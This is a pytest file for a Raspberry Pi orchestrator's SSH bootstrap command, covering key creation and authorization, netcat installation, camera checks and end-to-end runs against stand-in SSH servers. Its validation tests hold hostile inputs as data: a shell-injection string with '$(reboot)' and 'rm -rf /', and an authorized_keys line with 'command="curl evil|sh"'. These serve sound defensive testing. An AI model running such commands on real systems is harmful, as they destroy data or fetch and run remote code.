"""`bootstrap`: the Pi-side scripts in a real sh (hostile input included), then the whole command twice
against a stand-in Pi: a fresh account that only takes its password (root only: useradd), and the
ordinary key-only fixture. The real ~/.ssh is never used: HOME points into tmp_path."""

from __future__ import annotations

import os
import socket
import stat
import subprocess
from pathlib import Path

import paramiko
import pytest

from orchestrator.errors import ConnectError
from orchestrator.jobs.bootstrap import SCRIPTS_DIR, Step, StepStatus, build_script_command, parse_steps
from orchestrator.pi.host import LocalHost
from orchestrator.pi.login import create_ed25519_key, ensure_laptop_key, open_password_client, pick_key_path
from orchestrator.pi.ssh import PromptSocket
from orchestrator.pi.target import SshTarget, resolve_target
from orchestrator.settings import SshSettings
from orchestrator.sim.stand_in import install_stand_ins
from tests.e2e_helpers import piorch_argv, piorch_env
from tests.sshd_password import PasswordSshServer, can_make_accounts
from tests.sshd_server import SshServerFactory, SshServerInfo
from tests.stand_in_pi import (
    NETCAT_NAMES,
    build_path_farm,
    install_package_stand_ins,
    install_rpicam_hello,
    install_vcgencmd,
    restrict_remote_path,
    write_tool,
)
from tests.system_tools import require_tool

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq0cRu7bmdkDCZkvnV0UYzGz6ZVn7fHbF6RK6rKzGAA me@laptop"


# -- pure pieces ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("piorch-step netcat done installed netcat-openbsd (openbsd netcat at /usr/bin/nc)\n",
         [Step("netcat", StepStatus.DONE, "installed netcat-openbsd (openbsd netcat at /usr/bin/nc)")]),
        ("Reading package lists...\npiorch-step camera already libcamera stack (rpicam-vid), camera: imx219\n",
         [Step("camera", StepStatus.ALREADY, "libcamera stack (rpicam-vid), camera: imx219")]),
        ("piorch-step netcat failed\n", [Step("netcat", StepStatus.FAILED, "")]),
        ("piorch-step netcat maybe x\npiorch-stepper netcat done x\nnetcat done\n", []),
        ("", []),
    ],
)
def test_parse_steps(text: str, expected: list[Step]) -> None:
    assert parse_steps(text) == expected


@pytest.mark.parametrize("arg", [KEY, "it's $(reboot) `id` \"q\" ; rm -rf / \\", "-n", "", "two\nlines"])
def test_the_script_and_its_arguments_arrive_unchanged(arg: str) -> None:
    script = 'printf "[%s]" "$0" "$@"'
    result = LocalHost().run(build_script_command(script, "piorch-x", [arg, "b c"]), timeout=10)
    assert result.stdout == f"[piorch-x][{arg}][b c]"


def target(tmp_path: Path, identity_files: tuple[Path, ...] = ()) -> SshTarget:
    return SshTarget(alias="pi", hostname="127.0.0.1", identity_files=identity_files,
                     known_hosts=(tmp_path / "known_hosts",))


def test_pick_key_path(tmp_path: Path) -> None:
    ssh_dir = tmp_path / ".ssh"
    assert pick_key_path(None, target(tmp_path), ssh_dir) == ssh_dir / "id_ed25519"
    ssh_dir.mkdir()
    (ssh_dir / "id_rsa").write_text("x")
    assert pick_key_path(None, target(tmp_path), ssh_dir) == ssh_dir / "id_rsa"
    configured = (tmp_path / "pi_key", tmp_path / "other")
    assert pick_key_path(None, target(tmp_path, configured), ssh_dir) == tmp_path / "pi_key"
    (tmp_path / "other").write_text("x")
    assert pick_key_path(None, target(tmp_path, configured), ssh_dir) == tmp_path / "other"
    assert pick_key_path(tmp_path / "explicit", target(tmp_path, configured), ssh_dir) == tmp_path / "explicit"


def test_a_created_key_is_private_loadable_and_never_replaced(tmp_path: Path) -> None:
    path = tmp_path / "ssh" / "id_ed25519"
    key = ensure_laptop_key(path)
    assert key.created and key.public_line.startswith("ssh-ed25519 ") and key.public_line.endswith(
        f"piorch@{os.uname().nodename}")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    loaded = paramiko.Ed25519Key.from_private_key_file(str(path))
    assert f"{loaded.get_name()} {loaded.get_base64()}" == " ".join(key.public_line.split()[:2])
    again = ensure_laptop_key(path)
    assert not again.created and again.public_line == key.public_line
    with pytest.raises(FileExistsError):
        create_ed25519_key(path, "x")
    # Without its .pub, the public half comes from the (passphrase-less) private key.
    Path(f"{path}.pub").unlink()
    assert ensure_laptop_key(path).public_line == " ".join(key.public_line.split()[:2])


# -- the Pi-side scripts in a real sh ----------------------------------------------------------------------------

def run_script(name: str, args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", str(SCRIPTS_DIR / name), *args], env=env, capture_output=True, text=True,
                          timeout=30, check=False)


@pytest.mark.parametrize(
    ("line", "detail"),
    [
        ('command="curl evil|sh" ssh-ed25519 AAAA', "not a public key line (type 'command=\"curl')"),
        ("ssh-ed25519 AAAA\nssh-rsa BBBB", "the key must be one line"),
        ("ssh-ed25519 AA*", "not a public key line (bad key data)"),
        ("ssh-ed25519", "not a public key line (bad key data)"),
        ("", "not a public key line (type '')"),
        ("-rf /", "not a public key line (type '-rf')"),
    ],
)
def test_authorize_key_refuses_anything_but_a_key_line(tmp_path: Path, line: str, detail: str) -> None:
    result = run_script("authorize-key.sh", [line], {"HOME": str(tmp_path), "PATH": os.environ["PATH"]})
    assert result.returncode == 2
    assert result.stdout == f"piorch-step authorize-key failed {detail}\n"
    assert not (tmp_path / ".ssh" / "authorized_keys").exists()


def test_authorize_key_adds_once_and_keeps_the_file_intact(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "PATH": os.environ["PATH"]}
    keys = tmp_path / ".ssh" / "authorized_keys"
    keys.parent.mkdir()
    # An existing key with options and no final newline.
    keys.write_text('from="10.0.0.0/8" ssh-rsa AAAAB3NzaOLD old@host')
    first = run_script("authorize-key.sh", [KEY], env)
    assert first.stdout == "piorch-step authorize-key done ssh-ed25519 key added to ~/.ssh/authorized_keys\n"
    # Same key, other comment: already there.
    second = run_script("authorize-key.sh", [KEY.replace("me@laptop", "renamed")], env)
    assert second.stdout == "piorch-step authorize-key already ssh-ed25519 key in ~/.ssh/authorized_keys\n"
    assert keys.read_text() == f'from="10.0.0.0/8" ssh-rsa AAAAB3NzaOLD old@host\n{KEY}\n'
    assert stat.S_IMODE(keys.stat().st_mode) == 0o600 and stat.S_IMODE(keys.parent.stat().st_mode) == 0o700


def pi_path(tmp_path: Path, hidden: tuple[str, ...] = NETCAT_NAMES) -> tuple[Path, dict[str, str]]:
    """A local "Pi": PATH = stand-ins + every system tool except nc (and never the real sudo/apt-get)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    farm = build_path_farm(tmp_path / "system", hidden)
    return bin_dir, {"HOME": str(tmp_path), "PATH": f"{bin_dir}:{farm}"}


def test_install_netcat_as_a_user_with_sudo_fetches_the_lists_once(tmp_path: Path) -> None:
    require_tool("nc.openbsd")  # what the apt-get stand-in "installs"
    bin_dir, env = pi_path(tmp_path)
    logs = tmp_path / "logs"
    install_package_stand_ins(bin_dir, logs, bin_dir)
    # Not root, whoever runs the tests: the script must go through sudo.
    write_tool(bin_dir, "id", '[ "${1:-}" = -u ] && echo 1000 || exec /usr/bin/id "$@"\n')
    first = run_script("install-netcat.sh", [], env)
    assert first.returncode == 0, first.stderr
    assert first.stdout == (f"piorch-step netcat done installed netcat-openbsd (openbsd netcat at {bin_dir}/nc)\n")
    assert "E: Unable to locate package netcat-openbsd" in first.stderr  # apt's words go to stderr
    assert (logs / "apt-get.log").read_text().splitlines() == [
        "install -y -q netcat-openbsd", "update -q", "install -y -q netcat-openbsd"]
    sudo_calls = (logs / "sudo.log").read_text().splitlines()
    assert sudo_calls[0] == "-n true" and all(call.startswith("-n env DEBIAN_FRONTEND=noninteractive apt-get ")
                                              for call in sudo_calls[1:])
    second = run_script("install-netcat.sh", [], env)
    assert second.stdout == f"piorch-step netcat already openbsd netcat at {bin_dir}/nc\n"
    assert len((logs / "apt-get.log").read_text().splitlines()) == 3


@pytest.mark.parametrize(
    ("sudo", "apt", "detail"),
    [
        ("echo 'sudo: a password is required' >&2; exit 1\n", True,
         "installing needs root and sudo wants a password: run 'sudo apt-get install netcat-openbsd' on the Pi"),
        (None, False, "no apt-get: install OpenBSD netcat with this system's package manager"),
        (None, True, "apt-get could not install netcat-openbsd: the Pi needs internet access for that once "
                     "(Wi-Fi or a router), or install the .deb by hand"),
    ],
)
def test_install_netcat_says_why_it_cannot(tmp_path: Path, sudo: str | None, apt: bool, detail: str) -> None:
    bin_dir, env = pi_path(tmp_path)
    install_package_stand_ins(bin_dir, tmp_path / "logs", bin_dir)
    write_tool(bin_dir, "id", '[ "${1:-}" = -u ] && echo 0 || exec /usr/bin/id "$@"\n')
    if sudo is not None:
        write_tool(bin_dir, "id", '[ "${1:-}" = -u ] && echo 1000 || exec /usr/bin/id "$@"\n')
        write_tool(bin_dir, "sudo", sudo)
    if not apt:
        (bin_dir / "apt-get").unlink()
    elif sudo is None:
        write_tool(bin_dir, "apt-get", "echo 'E: Failed to fetch http://deb.debian.org' >&2; exit 100\n")
    result = run_script("install-netcat.sh", [], env)
    assert (result.returncode, result.stdout) == (1, f"piorch-step netcat failed {detail}\n")


def test_install_netcat_accepts_traditional_netcat(tmp_path: Path) -> None:
    bin_dir, env = pi_path(tmp_path)
    (bin_dir / "nc").symlink_to(require_tool("nc.traditional"))
    result = run_script("install-netcat.sh", [], env)
    assert result.stdout == f"piorch-step netcat already traditional netcat at {bin_dir}/nc\n"


@pytest.mark.parametrize(
    ("tools", "cameras", "get_camera", "line"),
    [
        (("rpicam-vid",), ("imx219", "imx708"), None,
         "already libcamera stack (rpicam-vid), camera: imx219 imx708"),
        (("rpicam-vid",), (), None, "failed libcamera stack (rpicam-vid) but no camera detected: check the ribbon "
         "cable at both ends, keep camera_auto_detect=1 in /boot/config.txt (or add dtoverlay=<sensor> for a "
         "module it does not detect), then reboot"),
        (("raspivid",), None, "supported=1 detected=1", "already legacy stack (raspivid), camera detected"),
        (("raspivid",), None, "supported=0 detected=0", "failed legacy stack (raspivid) but its camera interface "
         "is off: sudo raspi-config nonint do_legacy 0 (Bullseye) or do_camera 0 (Buster), then reboot"),
        (("raspivid",), None, "supported=1 detected=0", "failed legacy stack (raspivid) but no camera detected: "
         "check the ribbon cable at both ends, then reboot"),
        ((), None, None, "failed no camera tool: sudo apt install rpicam-apps (Bookworm; libcamera-apps on Bullseye)"),
    ],
)
def test_check_camera(tmp_path: Path, tools: tuple[str, ...], cameras: tuple[str, ...] | None,
                      get_camera: str | None, line: str) -> None:
    if Path("/boot/firmware/config.txt").exists():
        pytest.skip("this machine is a Pi: the message names its own config.txt")
    bin_dir, env = pi_path(tmp_path)
    install_stand_ins(bin_dir, tools)
    if cameras is not None:
        install_rpicam_hello(bin_dir, cameras)
    if get_camera is not None:
        install_vcgencmd(bin_dir, camera=get_camera)
    result = run_script("check-camera.sh", [], env)
    assert result.stdout == f"piorch-step camera {line}\n"
    assert result.returncode == (0 if line.startswith("already") else 1)


# -- the whole command against stand-in Pis -------------------------------------------------------------------

def prepare_pi(info: SshServerInfo, *, nc: bool) -> Path:
    """Camera stand-ins; sudo and apt-get stand-ins logging into bin_dir/../pkg-log; nc hidden if asked."""
    # With nc the Pi has this machine's; without, apt-get "installs" this machine's nc.openbsd.
    require_tool("nc" if nc else "nc.openbsd")
    install_stand_ins(info.bin_dir, ("rpicam-vid",))
    install_rpicam_hello(info.bin_dir, ["imx219"])
    logs = info.bin_dir.parent / "pkg-log"
    install_package_stand_ins(info.bin_dir, logs, info.bin_dir)
    if not nc:
        restrict_remote_path(info, NETCAT_NAMES)
    return logs


def laptop(tmp_path: Path, ssh_config: Path, password: str | None = None) -> dict[str, str]:
    env = piorch_env(tmp_path, ssh_config)
    env["HOME"] = str(tmp_path / "laptop-home")
    # The developer's agent must not log in for the test.
    env.pop("SSH_AUTH_SOCK", None)
    env.pop("PIORCH_BOOTSTRAP_PASSWORD", None)
    if password is not None:
        env["PIORCH_BOOTSTRAP_PASSWORD"] = password
    return env


def bootstrap(env: dict[str, str], *args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    # stdin is a pipe, never the terminal pytest may run in: nothing can wait for a keyboard.
    return subprocess.run(piorch_argv("bootstrap", "--pi", "testpi", *args), env=env, input=stdin,
                          capture_output=True, text=True, timeout=60, check=False)


def step_lines(stdout: str) -> dict[str, tuple[str, str]]:
    steps: dict[str, tuple[str, str]] = {}
    for line in stdout.splitlines():
        parts = line.split(None, 2)
        if len(parts) == 3 and parts[0] in {"done", "already", "failed", "skipped"}:
            steps[parts[1]] = (parts[0], parts[2])
    return steps


@pytest.mark.e2e
@pytest.mark.skipif(not can_make_accounts(), reason="needs root (useradd) for a throwaway password account")
def test_bootstrap_twice_on_a_fresh_account_that_only_knows_its_password(tmp_path: Path) -> None:
    from tests.conftest import _require_sshd

    _require_sshd()
    with PasswordSshServer() as server:
        info = server.info
        logs = prepare_pi(info, nc=False)
        logs.chmod(0o777)
        known_hosts = tmp_path / "laptop-known_hosts"
        ssh_config = tmp_path / "ssh_config"
        ssh_config.write_text(f"Host testpi\n    HostName {info.host}\n    Port {info.port}\n"
                              f"    User {server.account}\n    UserKnownHostsFile {known_hosts}\n")
        authorized = info.home / ".ssh" / "authorized_keys"
        assert not authorized.exists()

        first = bootstrap(laptop(tmp_path, ssh_config, server.password), "--yes")
        assert first.returncode == 0, first.stdout + first.stderr
        key = tmp_path / "laptop-home" / ".ssh" / "id_ed25519"
        public = Path(f"{key}.pub").read_text().strip()
        assert step_lines(first.stdout) == {
            "laptop-key": ("done", f"created {key} (ssh-ed25519)"),
            "host-key": ("done", f"recorded ssh-ed25519 {info.host_key_fingerprint} in {known_hosts}"),
            "authorize-key": ("done", "ssh-ed25519 key added to ~/.ssh/authorized_keys"),
            "netcat": ("done", f"installed netcat-openbsd (openbsd netcat at {info.bin_dir}/nc)"),
            "camera": ("already", "libcamera stack (rpicam-vid), camera: imx219"),
        }
        assert f"presents host key ssh-ed25519 {info.host_key_fingerprint}" in first.stdout
        assert known_hosts.read_text().split() == [f"[{info.host}]:{info.port}", "ssh-ed25519",
                                                   (info.bin_dir.parent / "keys" / "host_ed25519.pub")
                                                   .read_text().split()[1]]
        assert authorized.read_text() == public + "\n"
        # The account is not root: apt-get ran through sudo, after fetching the lists.
        assert (logs / "apt-get.log").read_text().splitlines() == [
            "install -y -q netcat-openbsd", "update -q", "install -y -q netcat-openbsd"]
        assert (logs / "sudo.log").read_text().splitlines()[0] == "-n true"

        # Again, with no password on offer: the key alone logs in, and nothing changes.
        second = bootstrap(laptop(tmp_path, ssh_config), "--yes")
        assert second.returncode == 0, second.stdout + second.stderr
        assert {name: status for name, (status, _) in step_lines(second.stdout).items()} == {
            "laptop-key": "already", "host-key": "already", "authorize-key": "already", "netcat": "already",
            "camera": "already"}
        assert authorized.read_text() == public + "\n"
        assert len(known_hosts.read_text().splitlines()) == 1
        assert len((logs / "apt-get.log").read_text().splitlines()) == 3

        # The password went to sshd only: not into any output, nor any file of the laptop or the Pi's folder.
        for result in (first, second):
            assert server.password not in result.stdout + result.stderr
        for folder in (tmp_path, info.bin_dir.parent):
            for path in folder.rglob("*"):
                if path.is_file() and not path.is_symlink():
                    assert server.password.encode() not in path.read_bytes(), path


@pytest.mark.e2e
def test_bootstrap_twice_where_the_key_already_works(tmp_path: Path, sshd_factory: SshServerFactory) -> None:
    """Runs as any user: the fixture's key logs in (it is the IdentityFile), the host key is new."""
    info = sshd_factory().info
    logs = prepare_pi(info, nc=True)
    known_hosts = tmp_path / "known_hosts"
    ssh_config = tmp_path / "ssh_config"
    ssh_config.write_text(info.ssh_config.read_text().replace(str(info.known_hosts), str(known_hosts)))
    env = laptop(tmp_path, ssh_config)
    authorized = info.home / ".ssh" / "authorized_keys"

    declined = bootstrap(env, stdin="n\n")
    assert declined.returncode == 1
    assert step_lines(declined.stdout)["host-key"][0] == "failed"
    assert step_lines(declined.stdout)["netcat"] == ("skipped", "skipped: host-key failed")
    assert not known_hosts.exists() and not authorized.exists()

    first = bootstrap(env, stdin="y\n")
    assert first.returncode == 0, first.stdout + first.stderr
    steps = step_lines(first.stdout)
    assert steps["laptop-key"] == ("already", f"using {info.user_key} (ssh-ed25519)")
    assert steps["host-key"][0] == "done" and steps["authorize-key"][0] == "done"
    assert steps["netcat"][0] == "already" and steps["camera"][0] == "already"
    second = bootstrap(env)
    assert second.returncode == 0, second.stdout + second.stderr
    assert {status for status, _ in step_lines(second.stdout).values()} == {"already"}
    public = (info.user_key.parent / "user_ed25519.pub").read_text().strip()
    assert authorized.read_text() == public + "\n"
    assert not (logs / "apt-get.log").exists()
    assert not (tmp_path / "laptop-home").exists()  # no key was made: the configured one was used


@pytest.mark.e2e
def test_bootstrap_without_a_working_key_or_a_terminal_says_how(tmp_path: Path,
                                                                 sshd_factory: SshServerFactory) -> None:
    info = sshd_factory().info
    prepare_pi(info, nc=True)
    stranger = tmp_path / "stranger"
    create_ed25519_key(stranger, "not-authorized")
    ssh_config = tmp_path / "ssh_config"
    ssh_config.write_text(info.ssh_config.read_text().replace(str(info.user_key), str(stranger)))
    result = bootstrap(laptop(tmp_path, ssh_config))
    assert result.returncode == 1
    steps = step_lines(result.stdout)
    assert steps["host-key"][0] == "already"
    assert steps["authorize-key"] == ("failed", f"no key works on {info.user}@{info.host} yet and there is no "
                                                "terminal to ask for its password")
    assert "fix: run bootstrap in a terminal, or set PIORCH_BOOTSTRAP_PASSWORD for automation" in result.stdout
    assert steps["netcat"] == ("skipped", "skipped: authorize-key failed")


@pytest.mark.e2e
def test_bootstrap_refuses_a_changed_host_key(tmp_path: Path, sshd_factory: SshServerFactory) -> None:
    info = sshd_factory().info
    prepare_pi(info, nc=True)
    other = (info.user_key.parent / "user_ed25519.pub").read_text().split()
    known_hosts = tmp_path / "known_hosts"
    recorded = f"[{info.host}]:{info.port} {other[0]} {other[1]}\n"
    known_hosts.write_text(recorded)
    ssh_config = tmp_path / "ssh_config"
    ssh_config.write_text(info.ssh_config.read_text().replace(str(info.known_hosts), str(known_hosts)))
    result = bootstrap(laptop(tmp_path, ssh_config), "--yes")
    assert result.returncode == 1
    steps = step_lines(result.stdout)
    assert steps["host-key"] == ("failed", f"the host key has CHANGED (now ssh-ed25519 {info.host_key_fingerprint})")
    assert [steps[name][0] for name in ("authorize-key", "netcat", "camera")] == ["skipped"] * 3
    assert "ssh-keygen -R" in result.stdout
    assert known_hosts.read_text() == recorded


@pytest.mark.e2e
@pytest.mark.skipif(not can_make_accounts(), reason="needs root (useradd) for a throwaway password account")
def test_the_password_login_runs_over_a_prompt_socket_and_a_wrong_password_leaves_nothing_open(
        tmp_path: Path) -> None:
    # bootstrap's one password login goes over piorch's own socket (pi/ssh.PromptSocket, TCP_NODELAY) like
    # every other login, not one paramiko opens with TCP's defaults (two ~40 ms delayed-ACK waits).
    from tests.conftest import _require_sshd

    _require_sshd()
    with PasswordSshServer() as server:
        info = server.info
        known_hosts = tmp_path / "known_hosts"
        host_key = (info.bin_dir.parent / "keys" / "host_ed25519.pub").read_text().split()
        known_hosts.write_text(f"[{info.host}]:{info.port} {host_key[0]} {host_key[1]}\n")
        ssh_config = tmp_path / "ssh_config"
        ssh_config.write_text(f"Host testpi\n    HostName {info.host}\n    Port {info.port}\n"
                              f"    User {server.account}\n    UserKnownHostsFile {known_hosts}\n")
        settings = SshSettings(target="testpi", ssh_config=ssh_config, connect_timeout=30)
        target = resolve_target("testpi", ssh_config)
        client = open_password_client(target, settings, server.password)
        try:
            transport = client.get_transport()
            assert transport is not None
            sock = transport.sock
            assert isinstance(sock, PromptSocket)
            assert sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) == 1
            _, stdout, _ = client.exec_command("echo in", timeout=20)
            assert stdout.read().decode().strip() == "in"
        finally:
            client.close()
        assert _established_to(info.port) == []
        with pytest.raises(ConnectError) as refused:
            open_password_client(target, settings, server.password + "x")
        assert refused.value.message == f"{target.display} refused the password for {server.account}"
        assert _established_to(info.port) == []


def _established_to(port: int) -> list[object]:
    import psutil  # type: ignore[import-untyped]

    return [conn for conn in psutil.Process().net_connections("tcp")
            if conn.raddr and conn.raddr.port == port and conn.status == psutil.CONN_ESTABLISHED]
